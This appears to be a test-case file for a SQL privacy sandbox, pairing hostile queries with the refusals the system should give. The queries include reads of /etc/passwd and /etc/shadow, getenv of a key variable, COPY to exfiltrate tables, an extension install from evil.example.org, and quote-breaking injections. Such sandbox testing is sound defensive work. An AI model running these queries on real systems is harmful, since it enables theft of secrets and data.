Escapes from the query to files, settings, catalogs and extensions (docs/privacy.md, "From
SQL to a release": one SELECT, no table functions or files, a closed list of functions). Every
case must be refused before anything is read, and charged nothing.

-- name: read_parquet of a system file
-- expect: refused sql_rejected "table functions (read_parquet, read_csv, glob, ...) and file paths are not allowed" at=21
SELECT COUNT(*) FROM read_parquet('/etc/passwd')

-- name: read_parquet of the dataset itself, bypassing the rewrite
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM read_parquet('booking/*.parquet')

-- name: read_parquet with hive partitioning and filename
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM read_parquet('*/*.parquet', filename = true, hive_partitioning = true)

-- name: READ_PARQUET upper case
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM READ_PARQUET('booking/part-0.parquet')

-- name: read_csv_auto of the key file
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM read_csv_auto('/etc/velo/keys.csv')

-- name: read_csv with all_varchar
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM read_csv('quarantine/batch-001.ndjson', all_varchar = true)

-- name: read_json_auto of the quarantine
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM read_json_auto('quarantine/*.ndjson')

-- name: read_text in FROM
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM read_text('manifest.json')

-- name: read_blob in FROM
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM read_blob('catalog.json')

-- name: glob to list the data directory
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM glob('*')

-- name: parquet_metadata to read row-group statistics
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM parquet_metadata('booking/part-0.parquet')

-- name: parquet_schema
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM parquet_schema('booking/part-0.parquet')

-- name: sniff_csv
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM sniff_csv('/etc/passwd')

-- name: query_table by name
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM query_table('booking')

-- name: query() runs arbitrary SQL
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM query('SELECT * FROM booking')

-- name: range as a table
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM range(10)

-- name: a parquet file named as a table
-- expect: refused sql_rejected "file paths are not allowed"
SELECT COUNT(*) FROM 'booking/part-0.parquet'

-- name: an absolute parquet path as a table
-- expect: refused sql_rejected "file paths are not allowed"
SELECT COUNT(*) FROM '/tmp/velo-query-test/synth-data/booking/part-0.parquet'

-- name: a csv file named as a table
-- expect: refused sql_rejected "file paths are not allowed"
SELECT COUNT(*) FROM 'quarantine/batch-001.ndjson'

-- name: a url as a table
-- expect: refused sql_rejected "file paths are not allowed"
SELECT COUNT(*) FROM 'https://example.org/booking.parquet'

-- name: a double-quoted file name as a table
-- expect: refused sql_rejected "file paths are not allowed"
SELECT COUNT(*) FROM "booking.parquet"

-- name: a glob pattern as a table
-- expect: refused sql_rejected "file paths are not allowed"
SELECT COUNT(*) FROM '*/*.parquet'

-- name: a table function joined on pid
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM booking b JOIN read_parquet('person/*.parquet') p ON b.pid = p.pid

-- name: COPY a table to a file
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
COPY booking TO '/tmp/exfiltrated.csv'

-- name: COPY a query to a file
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
COPY (SELECT region, COUNT(*) FROM booking GROUP BY region) TO '/tmp/x.parquet' (FORMAT parquet)

-- name: COPY FROM a file into a table
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
COPY booking FROM '/tmp/fake.csv'

-- name: ATTACH another database
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
ATTACH '/tmp/other.duckdb' AS other

-- name: ATTACH then query it in one request
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
ATTACH ':memory:' AS m; SELECT COUNT(*) FROM booking

-- name: DETACH
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
DETACH memory

-- name: USE another catalog
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
USE system.main

-- name: INSTALL an extension
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
INSTALL httpfs

-- name: FORCE INSTALL from a custom repository
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
FORCE INSTALL shellfs FROM 'http://evil.example.org'

-- name: LOAD an extension
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
LOAD httpfs

-- name: PRAGMA database_list
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
PRAGMA database_list

-- name: PRAGMA show_tables
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
PRAGMA show_tables

-- name: PRAGMA enable_profiling to a file
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
PRAGMA profiling_output = '/tmp/profile.json'

-- name: SET enable_external_access
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
SET enable_external_access = true

-- name: SET before a query
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
SET threads = 1; SELECT COUNT(*) FROM booking

-- name: SET after a query
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
SELECT COUNT(*) FROM booking; SET lock_configuration = false

-- name: RESET a setting
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
RESET allowed_directories

-- name: SET VARIABLE then getvariable
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
SET VARIABLE x = 'a'; SELECT COUNT(*) FROM booking WHERE region = getvariable('x')

-- name: getvariable in WHERE
-- expect: refused sql_rejected "function getvariable is not allowed"
SELECT COUNT(*) FROM booking WHERE region = getvariable('x')

-- name: current_setting in WHERE
-- expect: refused sql_rejected "function current_setting is not allowed"
SELECT COUNT(*) FROM booking WHERE current_setting('temp_directory') LIKE '/tmp%'

-- name: current_setting as a group key
-- expect: refused sql_rejected "function current_setting is not allowed"
SELECT current_setting('allowed_directories') AS dirs, COUNT(*) FROM booking GROUP BY dirs

-- name: getenv in a CASE key
-- expect: refused sql_rejected "function getenv is not allowed"
SELECT CASE WHEN getenv('VELO_KEY') LIKE 'a%' THEN 'a' ELSE 'b' END AS k, COUNT(*) FROM booking GROUP BY k

-- name: getenv compared with a constant
-- expect: refused sql_rejected "function getenv is not allowed"
SELECT COUNT(*) FROM booking WHERE getenv('HOME') = '/root'

-- name: version()
-- expect: refused sql_rejected "function version is not allowed"
SELECT COUNT(*) FROM booking WHERE version() = 'v1.1.0'

-- name: current_database()
-- expect: refused sql_rejected "function current_database is not allowed"
SELECT COUNT(*) FROM booking WHERE current_database() = 'memory'

-- name: read_text in WHERE
-- expect: refused sql_rejected "function read_text is not allowed"
SELECT COUNT(*) FROM booking WHERE region = '120' OR read_text('x') = ''

-- name: file_exists-style probing through a scalar
-- expect: refused sql_rejected "function read_blob is not allowed"
SELECT COUNT(*) FROM booking WHERE read_blob('/etc/shadow') IS NOT NULL

-- name: duckdb_settings() as a table
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM duckdb_settings()

-- name: duckdb_tables() as a table
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM duckdb_tables()

-- name: duckdb_views() reveals the sandbox's paths
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM duckdb_views()

-- name: duckdb_extensions()
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM duckdb_extensions()

-- name: duckdb_secrets()
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM duckdb_secrets()

-- name: pragma_table_info as a table function
-- expect: refused sql_rejected "table functions"
SELECT COUNT(*) FROM pragma_table_info('booking')

-- name: information_schema.tables
-- expect: refused sql_rejected "qualified table names are not allowed"
SELECT COUNT(*) FROM information_schema.tables

-- name: information_schema.columns
-- expect: refused sql_rejected "qualified table names are not allowed"
SELECT COUNT(*) FROM information_schema.columns

-- name: pg_catalog.pg_class
-- expect: refused sql_rejected "qualified table names are not allowed"
SELECT COUNT(*) FROM pg_catalog.pg_class

-- name: sqlite_master
-- expect: refused sql_rejected "unknown table sqlite_master (tables: person, booking,"
SELECT COUNT(*) FROM sqlite_master

-- name: duckdb_tables without parentheses
-- expect: refused sql_rejected "unknown table duckdb_tables"
SELECT COUNT(*) FROM duckdb_tables

-- name: schema-qualified booking
-- expect: refused sql_rejected "qualified table names are not allowed"
SELECT COUNT(*) FROM main.booking

-- name: catalog-qualified booking
-- expect: refused sql_rejected "qualified table names are not allowed"
SELECT COUNT(*) FROM memory.main.booking

-- name: temp schema
-- expect: refused sql_rejected "qualified table names are not allowed"
SELECT COUNT(*) FROM temp.main.bounded

-- name: the rewrite's own temporary table
-- expect: refused sql_rejected "unknown table bounded"
SELECT COUNT(*) FROM bounded

-- name: system catalog
-- expect: refused sql_rejected "qualified table names are not allowed"
SELECT COUNT(*) FROM system.main.duckdb_settings

-- name: function qualified with another schema
-- expect: refused sql_rejected "qualified function names are not allowed"
SELECT COUNT(*) FROM booking WHERE pg_catalog.lower(region) = '120'

-- name: function qualified with another catalog
-- expect: refused sql_rejected "qualified function names are not allowed"
SELECT COUNT(*) FROM booking WHERE system.main.lower(region) = '120'

-- name: a main-qualified built-in is the built-in, checked by name
-- expect: answered rows=1 columns=n:dp
SELECT COUNT(*) AS n FROM booking WHERE main.lower(region) = '120'

-- name: a main-qualified function outside the allow-list
-- expect: refused sql_rejected "function getenv is not allowed"
SELECT COUNT(*) AS n FROM booking WHERE main.getenv('HOME') = '/root'

-- name: Cyrillic look-alike table name
-- expect: refused sql_rejected "unknown table bооking"
SELECT COUNT(*) FROM bооking

-- name: time travel with AT
-- expect: refused sql_rejected "AT and TABLESAMPLE are not supported"
SELECT COUNT(*) FROM booking AT (VERSION => 1)

-- name: CREATE TABLE AS
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
CREATE TABLE copy AS SELECT * FROM booking

-- name: CREATE VIEW shadowing a table
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
CREATE OR REPLACE VIEW booking AS SELECT * FROM read_parquet('/tmp/fake.parquet')

-- name: DROP the sandbox view
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
DROP VIEW booking

-- name: EXPORT DATABASE
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
EXPORT DATABASE '/tmp/dump'

-- name: CALL a table function
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
CALL duckdb_settings()

-- name: EXPLAIN ANALYZE runs the query and prints plans
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
EXPLAIN ANALYZE SELECT COUNT(*) FROM booking

-- name: DESCRIBE a table
-- expect: refused sql_rejected "DESCRIBE, SHOW and SUMMARIZE are not supported"
DESCRIBE booking

-- name: SUMMARIZE a table releases min and max
-- expect: refused sql_rejected "DESCRIBE, SHOW and SUMMARIZE are not supported"
SUMMARIZE booking

-- name: SHOW TABLES
-- expect: refused sql_rejected "DESCRIBE, SHOW and SUMMARIZE are not supported"
SHOW TABLES

-- name: a statement hidden after a semicolon inside a comment is one statement
-- expect: answered rows=1 columns=count(*):dp
SELECT COUNT(*) FROM booking /*; ATTACH '/tmp/x' AS x */

-- name: a statement hidden in a line comment is one statement
-- expect: answered rows=1 columns=n:dp
SELECT COUNT(*) AS n FROM booking -- ; COPY booking TO '/tmp/x.csv'

-- name: a second statement after a string with a semicolon
-- expect: refused sql_rejected "only a single SELECT statement is allowed"
SELECT COUNT(*) FROM booking WHERE region <> ';'; COPY booking TO '/tmp/x.csv'

-- name: two SELECTs, the second reading a file
-- expect: refused sql_rejected "exactly one SELECT statement is allowed, got 2"
SELECT COUNT(*) FROM booking; SELECT COUNT(*) FROM read_parquet('person/*.parquet')

-- name: a table alias that tries to close its quotes in the rewrite
-- expect: answered rows=4 columns=priority:key|n:dp
SELECT "b""; COPY booking TO '/tmp/x'; --".priority, COUNT(*) AS n FROM booking AS "b""; COPY booking TO '/tmp/x'; --" GROUP BY 1

-- name: join aliases with quotes of both kinds
-- expect: answered rows=1 columns=n:dp
SELECT COUNT(*) AS n FROM booking AS "a""b" JOIN prescription AS "c'd" ON "a""b".pid = "c'd".pid

-- name: a string literal that tries to close its quotes in the rewrite
-- expect: answered rows=1 columns=n:dp
SELECT COUNT(*) AS n FROM booking WHERE region = 'x''); COPY booking TO (''/tmp/x'

-- name: a CASE key whose results try to close their quotes
-- expect: answered rows=2 columns=k:key|n:dp
SELECT CASE WHEN wait_days > 5 THEN 'it''s' ELSE '"; DROP VIEW booking; --' END AS k, COUNT(*) AS n FROM booking GROUP BY k

-- name: a table the project is not approved for
-- expect: refused forbidden "the project is not approved for table lab_result"
SELECT loinc, AVG(value) AS v FROM lab_result GROUP BY loinc

-- name: an unapproved table under another case
-- expect: refused forbidden "the project is not approved for table lab_result"
SELECT COUNT(*) AS n FROM LAB_RESULT

-- name: an unapproved column inside a public CASE key
-- expect: refused forbidden "the project is not approved for column person.asl"
SELECT CASE WHEN p.asl = '120201' THEN 'rome' ELSE 'other' END AS k, COUNT(*) AS n FROM booking b JOIN person p USING (pid) GROUP BY k

-- name: an unapproved column counted
-- expect: refused forbidden "the project is not approved for column person.province"
SELECT COUNT(p.province) AS n FROM booking b JOIN person p USING (pid)

-- name: an unapproved column in ORDER BY
-- expect: refused forbidden "the project is not approved for column person.province"
SELECT p.sex, COUNT(*) AS n FROM booking b JOIN person p USING (pid) GROUP BY p.sex ORDER BY p.province

-- name: an unapproved column alone in the person table
-- expect: refused forbidden "the project is not approved for column person.asl"
SELECT COUNT(*) AS n FROM person WHERE asl IS NULL
